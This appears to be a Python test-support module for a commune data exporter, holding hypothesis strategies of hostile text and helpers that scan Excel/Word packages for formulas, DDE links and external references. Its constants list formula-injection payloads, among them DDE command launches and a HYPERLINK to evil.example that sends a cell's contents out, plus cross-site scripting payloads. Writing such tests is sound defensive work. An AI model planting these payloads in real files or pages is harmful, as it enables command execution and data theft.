"""Texts that a commune's file may hold and that must do nothing: formulas, scripts, what XML cannot hold."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator

from hypothesis import strategies as st
from lxml import etree

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "=WEBSERVICE(\"http://evil.example\")",
    "='[evil.xlsx]Sheet1'!A1", "+84 55 385 1234", "-5 mô hình", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "{=1+1}", "＝1+1", "Ba V;=1+1", "http://evil.example", "mailto:a@evil.example",
    "external:evil.xlsx", "internal:'B1'!A1", r"file://evil\share",
)  # fmt: skip
SCRIPTS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg onload=window.pwned=1>',
    "' autofocus onfocus='window.pwned=1' x='",
    "javascript:window.pwned=1",
    "</script><script>window.pwned=1//",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "{{ [].__class__ }}{% raw %}${window.pwned=1}`",
    '<a href="javascript:window.pwned=1" id="tim">x</a>',
    "</title></style></textarea>--><script>window.pwned=1</script>",
    "<math><mi xlink:href='data:text/html,<script>window.pwned=1</script>'>",
    "\u2028;window.pwned=1;'\"`]]><!--<script>",
)
ODD = (
    "a\x00b", "a\x01\x1bb", "\x7f\x85", "\ud800", "a\udfffb", "\ufffe\uffff", "\ufdd0", "]]>", "<![CDATA[", "_x0041_", "_x005F_x0041_",
    "__x000D__", "&amp;&lt;", "<r>&</r>", "<r><t>A</t></r>", "a\r\nb\rc", " đầu cuối ", "\U0001f600", "$\\frac{", "%s%(x)s{0}", "&L&P",
)  # fmt: skip

pieces = st.sampled_from((*FORMULAS, *SCRIPTS, *ODD, "_x", "005F_", "_", "<r>", "</r>", "xã", " ", "\n"))
any_text = st.lists(pieces | st.text(st.characters(), max_size=4), min_size=1, max_size=4).map(
    "".join
)  # surrogates too


def parts(data: bytes) -> Iterator[tuple[str, etree._Element]]:
    """The XML parts of a packed file, each of which must be well-formed."""
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        for name in packed.namelist():
            if re.search(r"\.(xml|rels|vml)$", name):
                yield name, etree.fromstring(packed.read(name))


def acting(data: bytes) -> list[tuple[str, str]]:
    """What in a packed file of Excel or Word could compute, call or fetch: place and text."""
    found = [
        (name, (element.text or " ".join(element.attrib.values())).strip())
        for name, root in parts(data)
        for element in root.iter("{*}f", "{*}ddeLink", "{*}oleLink", "{*}externalBook", "{*}instrText", "{*}fldSimple")
    ]
    links = (one for name, root in parts(data) if name.endswith(".rels") for one in root)
    return found + [("rels", one.attrib["Target"]) for one in links if one.get("TargetMode") == "External"]
